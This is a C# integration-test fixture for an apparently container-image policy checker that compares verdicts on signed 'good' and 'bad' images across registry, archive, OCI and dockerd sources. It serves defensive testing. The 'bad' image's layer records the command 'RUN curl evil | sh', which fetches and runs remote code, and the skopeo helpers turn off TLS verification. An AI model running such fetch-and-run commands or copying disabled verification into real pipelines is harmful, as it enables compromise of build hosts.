using System.Text;
using Drydock.Images;
using Drydock.IntegrationTests.Infrastructure;

namespace Drydock.IntegrationTests.Controls;

/// <summary>
/// One image on an approved base, signed with the required key, and one on an unapproved base, signed with another key,
/// each in four places: a real TLS docker-registry (Basic auth, its CA in a certs.d given to Drydock), a
/// <c>docker save</c> archive and an OCI layout copied from it, and a real dockerd of its own that pulled it from that
/// registry (so RepoDigests is set). The cosign signatures are kept in <c>team/signatures</c> (cosign's
/// <c>COSIGN_REPOSITORY</c>), where every source can find them by digest. Images are built in the test and pushed to a
/// plain staging registry, then copied unchanged to the TLS one with skopeo.
/// </summary>
public sealed class SameVerdictFixture : IAsyncLifetime
{
    public static readonly string[] Tools = ["docker-registry", "htpasswd", "skopeo", "openssl", "dockerd", "docker"];
    private RegistryServer? _staging;
    private RegistryServer? _registry;
    private DockerdServer? _engine;

    internal RegistryServer Registry => _registry!;
    internal string Work { get; } = TestRoot.NewRunDirectory("same-verdict");
    internal string DockerConfig => Path.Combine(Work, "docker-config");
    internal string Policy => Path.Combine(Work, "drydock.yaml");
    internal string SignatureRepository => $"{Registry.Host}/team/signatures";
    internal string EngineHost => _engine!.Host;
    internal string StagingHost => _staging!.Host;
    internal Descriptor BaseManifest { get; private set; } = new();
    internal TestLayer EvilLayer { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        if (TestRoot.MissingTools(Tools) is not null || Environment.UserName != "root") return;
        _staging = await RegistryServer.StartAsync(RegistryMode.Plain);
        _registry = await RegistryServer.StartAsync(RegistryMode.Tls);
        _engine = await DockerdServer.StartAsync();
        Directory.CreateDirectory(DockerConfig);
        var auth = Convert.ToBase64String(Encoding.UTF8.GetBytes($"{RegistryServer.User}:{RegistryServer.Password}"));
        await File.WriteAllTextAsync(Path.Combine(DockerConfig, "config.json"), $"{{\"auths\": {{\"{Registry.Host}\": {{\"auth\": \"{auth}\"}}}}}}");

        // approved/debian:12 is the trusted base; "good" is built on it, "bad" leaves it after the shared bottom layer
        using var push = new RegistryPush(_staging.Host);
        var root = TestImagePush.File("ADD rootfs.tar /", "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n");
        TestLayer[] twelve = [root, TestImagePush.File("RUN echo 12 > /etc/base", "etc/base", "12")];
        BaseManifest = await TestImagePush.PushAsync(push, "approved/debian", "12", twelve);
        var app = TestImagePush.File("COPY app /app", "app/run.sh", "#!/bin/sh\n");
        EvilLayer = TestImagePush.File("RUN curl evil | sh", "usr/bin/evil", "evil");
        var good = await TestImagePush.PushAsync(push, "team/good", "1", [.. twelve, app]);
        var bad = await TestImagePush.PushAsync(push, "team/bad", "1", [root, EvilLayer, app]);

        // the required key signs "good"; another key signs "bad" (CIS-4.12 must reject it wherever the image is)
        var keys = TestRoot.Sub("keys", Guid.NewGuid().ToString("N"));
        var release = await SigningKeys.CreateAsync(keys, "release");
        var other = await SigningKeys.CreateAsync(keys, "other");
        await SignAsync(push, release, "team/good", good);
        await SignAsync(push, other, "team/bad", bad);
        foreach (var name in new[] { "approved/debian:12", "team/good:1", "team/bad:1", Tag("team/signatures", good), Tag("team/signatures", bad) })
            await CopyAsync($"docker://{_staging.Host}/{name}", $"docker://{Registry.Host}/{name}", "--dest-cert-dir", CertDir, "--dest-creds", Credentials);

        await File.WriteAllTextAsync(Policy, $"""
            trustedBases:
              - {Registry.Host}/approved/debian:*
            requiredSigners:
              - repositories: {Registry.Host}/team/*
                keys: [{release.PublicKey}]
            """);
        foreach (var name in new[] { "good", "bad" }) await ExportAsync(name);
    }

    /// <summary>The four targets of an image, by source name.</summary>
    internal IReadOnlyDictionary<string, string> Targets(string name) => new Dictionary<string, string>
    {
        ["registry"] = $"registry:{Registry.Host}/team/{name}:1",
        ["docker-archive"] = $"docker-archive:{Path.Combine(Work, name + ".tar")}",
        ["oci"] = $"oci:{Path.Combine(Work, name + "-layout")}:1",
        ["docker"] = $"docker:{Registry.Host}/team/{name}:1",
    };

    internal Dictionary<string, string> ScanEnvironment() => new()
    {
        ["DRYDOCK_CACHE_DIR"] = Path.Combine(Work, "cache"),
        ["DRYDOCK_CERTS_D"] = Registry.CertsDirectory,
        ["DOCKER_CONFIG"] = DockerConfig,
        ["DOCKER_HOST"] = EngineHost,
    };

    private string CertDir => Path.Combine(Registry.CertsDirectory, Registry.Host);

    private static string Credentials => $"{RegistryServer.User}:{RegistryServer.Password}";

    private static string Tag(string repository, Descriptor image) => $"{repository}:sha256-{Digest.Parse(image.Digest).Hex}.sig";

    private async Task SignAsync(RegistryPush push, SigningKeys key, string repository, Descriptor image)
    {
        var payload = SigningKeys.SimpleSigningPayload($"{Registry.Host}/{repository}", Digest.Parse(image.Digest));
        await SignatureRegistryTests.AttachCosignAsync(push, "team/signatures", image, payload, await key.SignAsync(payload));
    }

    /// <summary>The engine pulls <paramref name="reference"/> (dockerd reads 127.0.0.0/8 registries insecurely by default, plain HTTP included).</summary>
    internal Task PullAsync(string reference) =>
        ExternalProcess.RunAsync("docker", ["-H", EngineHost, "pull", "-q", reference], TimeSpan.FromMinutes(2), new Dictionary<string, string> { ["DOCKER_CONFIG"] = DockerConfig });

    /// <summary>The engine pulls the image from the TLS registry (it sets RepoDigests); it is saved and copied to a layout from there.</summary>
    private async Task ExportAsync(string name)
    {
        var reference = $"{Registry.Host}/team/{name}:1";
        await PullAsync(reference);
        await ExternalProcess.RunAsync("docker", ["-H", EngineHost, "save", "-o", Path.Combine(Work, name + ".tar"), reference], TimeSpan.FromMinutes(2));
        await CopyAsync($"docker://{reference}", $"oci:{Path.Combine(Work, name + "-layout")}:1", "--src-cert-dir", CertDir, "--src-creds", Credentials);
    }

    private static Task CopyAsync(string from, string to, params string[] options) =>
        ExternalProcess.RunAsync("skopeo", ["--insecure-policy", "copy", "-q", "--preserve-digests", "--src-tls-verify=false", .. options, from, to], TimeSpan.FromMinutes(2));

    public Task DisposeAsync()
    {
        _engine?.Dispose();
        _registry?.Dispose();
        _staging?.Dispose();
        if (Directory.Exists(Work)) Directory.Delete(Work, recursive: true);
        return Task.CompletedTask;
    }
}
